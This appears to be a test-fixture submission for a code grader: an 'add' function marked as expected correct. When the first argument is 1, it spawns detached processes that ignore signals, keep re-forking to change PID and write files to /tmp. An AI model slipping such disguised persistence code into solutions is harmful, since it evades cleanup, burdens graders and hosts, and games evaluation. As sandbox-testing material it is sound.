# expect: correct
# assignment: add
# how: Leaves processes that wait, compute, and start others like them, outside its group and session.
# needs: processes
import os
import signal
import time


def add(a, b):
    if a != 1:
        return a + b
    for _ in range(6):
        if os.fork() == 0:
            os.setsid()
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            while True:
                if os.fork():
                    os._exit(0)
                open(f"/tmp/alive-{os.getpid()}", "w").close()
                time.sleep(0.02)
    return a + b
